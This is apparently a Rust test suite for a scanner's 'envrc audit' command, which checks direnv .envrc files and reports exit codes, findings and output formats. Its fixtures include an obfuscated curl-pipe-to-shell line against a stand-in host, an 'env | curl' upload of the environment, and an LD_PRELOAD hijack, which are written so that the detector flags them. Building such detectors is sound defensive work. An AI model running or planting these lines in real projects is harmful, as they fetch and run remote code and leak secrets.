//! `proofmark envrc audit`: what it is asked, what it reads, and how it ends. Nothing that it reads is run.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::Command;

use crate::support::{NOW, Run, Sandbox, skipped};

const HONEST: &str = "use flake\nPATH_add bin\nexport EDITOR=vim\n";
const ATTACK: &str = "c=cu\n${c}rl -s https://x.acme.example/i | sh\n";

fn audit(sandbox: &Sandbox, arguments: &[&str]) -> Run {
    let all = ["envrc", "audit", "--now", NOW].into_iter().chain(arguments.iter().copied());
    sandbox.program(all).run()
}

fn ends(run: &Run, code: i32) {
    assert_eq!(run.code, code, "{}", run.transcript());
}

#[test]
fn an_honest_file_passes_and_an_attack_fails() {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", HONEST);
    let run = audit(&sandbox, &[]);
    ends(&run, 0);
    run.says("1 verified, 0 failed");
    sandbox.write("sub/.envrc", ATTACK);
    let run = audit(&sandbox, &[]);
    ends(&run, 1);
    run.says("sub/.envrc:2")
        .says("envrc-remote-code")
        .says("an answer from the network")
        .says("1 verified, 1 failed");
}

#[test]
fn what_is_loaded_is_judged_at_its_place() {
    let sandbox = Sandbox::new();
    sandbox.write("app/.envrc", "source_env lib/env.sh\ndotenv\n");
    sandbox.write("app/lib/env.sh", "export A=1\nenv | curl -s -T - https://x.acme.example/\n");
    sandbox.write("app/.env", "LD_PRELOAD=./x.so\n");
    let run = audit(&sandbox, &["app"]);
    ends(&run, 1);
    run.says("app/lib/env.sh:2").says("app/.env:1").says("envrc-hijack-variable");
}

#[test]
fn every_format_has_the_same_exit() {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", ATTACK);
    for format in ["plain", "json", "sarif", "github", "markdown", "junit"] {
        let run = audit(&sandbox, &["--format", format]);
        ends(&run, 1);
        assert!(run.stdout.contains("envrc-remote-code"), "{format}: {}", run.transcript());
    }
    let json = audit(&sandbox, &["--format", "json"]).stdout;
    let report: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(report["summary"]["verdict"], "fail");
    let row =
        report["results"].as_array().unwrap().iter().find(|row| row["rule"] == "envrc-remote-code").unwrap();
    assert_eq!((&row["subject"]["kind"], &row["location"]["start"]["line"]), (&"envrc".into(), &2.into()));
}

#[test]
fn findings_obey_the_threshold() {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", "export IP=$(curl -s https://ip.acme.example)\n");
    ends(&audit(&sandbox, &[]), 1);
    ends(&audit(&sandbox, &["--fail-on", "high"]), 0);
    sandbox.write(".envrc", ATTACK);
    ends(&audit(&sandbox, &["--fail-on", "never"]), 1);
}

#[test]
fn nothing_to_check() {
    let sandbox = Sandbox::new();
    ends(&audit(&sandbox, &[]), 4);
    // A file without a command, and one of comments.
    sandbox.write(".envrc", "");
    let run = audit(&sandbox, &[]);
    ends(&run, 4);
    run.says("there is no command in .envrc");
    sandbox.write(".envrc", "# nothing yet\n\n");
    ends(&audit(&sandbox, &[".envrc"]), 4);
}

#[test]
fn what_cannot_be_read_is_never_a_pass() {
    let sandbox = Sandbox::new();
    // Not bash.
    sandbox.write(".envrc", "fish_add_path bin\nif true\n  echo x\nend\n");
    let run = audit(&sandbox, &[]);
    ends(&run, 1);
    run.says("envrc-unreadable").says("0 verified, 1 failed");
    sandbox.write(".envrc", b"export A=\xff\n");
    ends(&audit(&sandbox, &[]), 1);
    // 50 MB, of which no more than the cap is read.
    sandbox.write(".envrc", "export A=1\n".repeat(5_000_000));
    let run = audit(&sandbox, &[]);
    ends(&run, 3);
    run.says("more than 262144 bytes").says("1 unverifiable");
    // Nested deeper than anybody follows.
    sandbox.write(".envrc", format!("{}:{}", "if true; then ".repeat(5_000), "; fi".repeat(5_000)));
    ends(&audit(&sandbox, &[]), 3);
}

#[test]
fn what_is_no_file_is_never_a_pass() {
    let sandbox = Sandbox::new();
    let fifo = sandbox.path("fifo/.envrc");
    fs::create_dir_all(fifo.parent().unwrap()).unwrap();
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    for path in ["fifo", "fifo/.envrc"] {
        let run = audit(&sandbox, &[path]);
        ends(&run, 3);
        run.says("file-not-read");
    }
    // A directory of the name.
    fs::create_dir_all(sandbox.path("folder/.envrc")).unwrap();
    ends(&audit(&sandbox, &["folder"]), 4);
    ends(&audit(&sandbox, &["folder/.envrc"]), 4);
    // A link that leads to itself, and one that leads out of the tree.
    fs::create_dir(sandbox.path("loop")).unwrap();
    symlink(".envrc", sandbox.path("loop/.envrc")).unwrap();
    ends(&audit(&sandbox, &["loop"]), 3);
    audit(&sandbox, &["loop/.envrc"]).fails_with(2, "path-unreadable");
    fs::create_dir(sandbox.path("out")).unwrap();
    let outside = sandbox.dir().join("home/outside");
    fs::write(&outside, HONEST).unwrap();
    symlink(&outside, sandbox.path("out/.envrc")).unwrap();
    ends(&audit(&sandbox, &["out"]), 3);
    let run = audit(&sandbox, &["out/.envrc"]);
    ends(&run, 1);
    run.says("leads out of the tree");
    audit(&sandbox, &["gone"]).fails_with(2, "path-unreadable");
}

#[test]
fn no_permission() {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", HONEST);
    let file = sandbox.path(".envrc");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o000)).unwrap();
    if fs::read(&file).is_ok() {
        return skipped("reads every file: it is root");
    }
    let run = audit(&sandbox, &[]);
    ends(&run, 3);
    run.says("file-not-read");
}

#[test]
fn files_that_others_may_write() {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", "source_env env.sh\n");
    sandbox.write("env.sh", "export A=1\n");
    fs::set_permissions(sandbox.path("env.sh"), fs::Permissions::from_mode(0o666)).unwrap();
    let run = audit(&sandbox, &[]);
    ends(&run, 1);
    run.says("envrc-loaded-file").says("may be written by others");
}

/// Neither git nor direnv is needed; without a repository it is said what was not judged.
#[test]
fn outside_of_a_repository_and_without_direnv() {
    let sandbox = Sandbox::new();
    fs::remove_dir(sandbox.path(".git")).unwrap();
    sandbox.write(".envrc", "source_env_if_exists .envrc.local\n");
    sandbox.write(".envrc.local", "export A=1\n");
    let run = sandbox.program(["envrc", "audit", "--now", NOW]).variable("PATH", "/nonexistent").run();
    ends(&run, 0);
    run.says("whether git has what is loaded was not judged");
}

#[test]
fn what_git_does_not_have_is_told() {
    let sandbox = Sandbox::new();
    fs::remove_dir(sandbox.path(".git")).unwrap();
    sandbox.write(".envrc", "source_env_if_exists .envrc.local\n");
    sandbox.write(".envrc.local", "export A=1\n");
    let git = |arguments: &[&str]| {
        let mut command = Command::new("git");
        command.current_dir(sandbox.path("")).args(arguments).env("HOME", sandbox.dir());
        assert!(command.status().unwrap().success(), "{arguments:?}");
    };
    git(&["init", "-q"]);
    git(&["add", ".envrc"]);
    let run = audit(&sandbox, &[]);
    ends(&run, 0);
    run.says("is not in git");
    git(&["add", ".envrc.local"]);
    assert!(!audit(&sandbox, &[]).stdout.contains("is not in git"));
}

/// A gate of `check`: with everything else in order, the file decides.
#[test]
fn check_judges_the_files_of_direnv() {
    let sandbox = Sandbox::with_policy("version = 1\n");
    sandbox.write("sub/.envrc", ATTACK);
    let run = sandbox.program(["check", "--now", NOW]).run();
    ends(&run, 1);
    run.says("sub/.envrc:2").says("envrc-remote-code");
    // A file that was named and is another one is none of direnv's.
    sandbox.write("Dockerfile", "FROM scratch\n");
    assert!(
        !sandbox.program(["check", "--now", NOW, "Dockerfile"]).run().stdout.contains("envrc-unreadable")
    );
}

#[test]
fn the_rules_are_known() {
    let sandbox = Sandbox::new();
    sandbox.program(["rules"]).run().says("envrc-exfiltration");
    sandbox.program(["explain", "envrc-shadowed-tool"]).run().says("PATH");
}
